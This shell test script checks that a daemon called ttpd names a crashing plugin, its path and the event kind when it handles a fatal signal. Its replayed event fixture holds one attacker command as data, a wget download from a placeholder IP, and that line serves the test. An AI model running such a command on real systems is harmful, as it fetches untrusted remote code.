#!/bin/sh
# Crash attribution: a plugin that crashes is named, with its path and the
# event kind, by one line from ttpd's fatal-signal handler, and ttpd still
# dies of the signal (core dump); `ttpd -t` probes plugins in a child and
# reports a crash at init instead of dying.
set -u
# Built with --enable-sanitizers, the fatal signals still belong to the
# code under test (its handler, or the default action), not to ASan's.
ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}handle_segv=0:handle_sigbus=0:handle_sigill=0:handle_sigfpe=0:handle_abort=0"
export ASAN_OPTIONS
: "${TTPD_BUILDDIR:?}" "${TTPD_SRCDIR:?}"
ttpd="$TTPD_BUILDDIR/host/ttpd"
rules="$TTPD_SRCDIR/tests/checker/rules"
umask 022
ulimit -c 0 2>/dev/null	# the crashes are expected: no core files
tmp=$(mktemp -d /tmp/ttpd-test.XXXXXX) || exit 99
trap 'rm -rf "$tmp"' EXIT
mkdir "$tmp/plugins"
for p in crash_init crash_handle crash_ctor good; do
	cp "$TTPD_BUILDDIR/tests/checker/.libs/$p.so" "$tmp/plugins/" || exit 99
done
failed=0

conf() {	# conf FILE PLUGIN...
	file=$1
	shift
	load=""
	for p in "$@"; do
		load="$load${load:+, }{ name = \"$p\"; }"
	done
	cat > "$file" <<CONF
store: { path = "$tmp/ttpd.db"; };
rules: { dirs = [ "$rules" ]; };
plugins: { dir = "$tmp/plugins"; load = ( $load ); };
log: { level = "warning"; };
CONF
}

bad() {
	echo "FAIL: $1"
	shift
	for f in "$@"; do sed 's/^/    /' "$f"; done
	failed=1
}

# 1. ttpd -t survives a plugin crashing in init, names it, exits 1 and
#    still reports the plugins that load.
conf "$tmp/t.conf" good crash_init
"$ttpd" -t -c "$tmp/t.conf" > "$tmp/t.out" 2> "$tmp/t.err"
status=$?
line="plugin crash_init ($tmp/plugins/crash_init.so): crashed during init: signal 11 (SIGSEGV); not loaded"
if [ $status -ne 1 ]; then
	bad "ttpd -t with a crashing plugin: exit $status, expected 1" \
	    "$tmp/t.out" "$tmp/t.err"
elif ! grep -qF "$line" "$tmp/t.err"; then
	bad "ttpd -t: no line '$line'" "$tmp/t.err"
elif ! grep -q '^plugin good: ' "$tmp/t.out"; then
	bad "ttpd -t: the good plugin is not reported" "$tmp/t.out"
else
	echo "ok: ttpd -t reports the crash at init and exits 1"
fi

# 2. Without -t the crash at init is attributed by the signal handler and
#    the process still dies of SIGSEGV.
conf "$tmp/init.conf" crash_init
echo '{}' > "$tmp/empty.jsonl"
"$ttpd" -c "$tmp/init.conf" --replay "$tmp/empty.jsonl" > "$tmp/init.out" \
    2> "$tmp/init.err"
status=$?
line="ttpd: fatal signal 11 (SIGSEGV) in plugin crash_init ($tmp/plugins/crash_init.so) during init()"
if [ $status -ne 139 ]; then
	bad "crash in init: exit $status, expected 139 (SIGSEGV)" \
	    "$tmp/init.err"
elif [ "$(grep -cF "$line" "$tmp/init.err")" -ne 1 ]; then
	bad "crash in init: not exactly one line '$line'" "$tmp/init.err"
else
	echo "ok: a crash in init() is attributed"
fi

# 3. A crash in handle() names the plugin, its path and the event kind.
conf "$tmp/h.conf" good crash_handle
cat > "$tmp/events.jsonl" <<'EV'
{"source_kind":"command","source_id":"c1","attacker_uuid":"c0ffee00-0000-4000-8000-000000000001","payload":{"command_text":"wget http://198.51.100.7/x"}}
{"source_kind":"command","source_id":"c2","attacker_uuid":"c0ffee00-0000-4000-8000-000000000001","payload":{"command_text":"echo crash-me"}}
EV
"$ttpd" -c "$tmp/h.conf" --replay "$tmp/events.jsonl" > "$tmp/h.out" \
    2> "$tmp/h.err"
status=$?
line="ttpd: fatal signal 11 (SIGSEGV) in plugin crash_handle ($tmp/plugins/crash_handle.so) during handle() of a command event"
if [ $status -ne 139 ]; then
	bad "crash in handle: exit $status, expected 139 (SIGSEGV)" \
	    "$tmp/h.err"
elif [ "$(grep -cF "$line" "$tmp/h.err")" -ne 1 ]; then
	bad "crash in handle: not exactly one line '$line'" "$tmp/h.err"
else
	echo "ok: a crash in handle() is attributed with the event kind"
fi

# 3b. Code of the plugin that runs inside dlopen() (a constructor) too.
conf "$tmp/ctor.conf" crash_ctor
"$ttpd" -c "$tmp/ctor.conf" --replay "$tmp/empty.jsonl" > "$tmp/ctor.out" \
    2> "$tmp/ctor.err"
status=$?
line="ttpd: fatal signal 11 (SIGSEGV) in plugin crash_ctor ($tmp/plugins/crash_ctor.so) during dlopen()"
if [ $status -ne 139 ] || [ "$(grep -cF "$line" "$tmp/ctor.err")" -ne 1 ]
then
	bad "crash in a constructor: exit $status, or not one line '$line'" \
	    "$tmp/ctor.err"
else
	echo "ok: a crash in a constructor is attributed"
fi
"$ttpd" -t -c "$tmp/ctor.conf" > "$tmp/ct.out" 2> "$tmp/ct.err"
status=$?
if [ $status -ne 1 ] || ! grep -qF "plugin crash_ctor ($tmp/plugins/crash_ctor.so): crashed during init: signal 11 (SIGSEGV)" "$tmp/ct.err"; then
	bad "ttpd -t with a crashing constructor: exit $status" "$tmp/ct.err"
else
	echo "ok: ttpd -t reports a crash while loading"
fi

# 4. The same plugins without the crashing event: no crash, no line.
head -n 1 "$tmp/events.jsonl" > "$tmp/calm.jsonl"
"$ttpd" -c "$tmp/h.conf" --replay "$tmp/calm.jsonl" > "$tmp/c.out" \
    2> "$tmp/c.err"
status=$?
if [ $status -ne 0 ] || grep -q 'fatal signal' "$tmp/c.err"; then
	bad "calm replay: exit $status or a crash line" "$tmp/c.err"
else
	echo "ok: no crash, no line"
fi
exit $failed
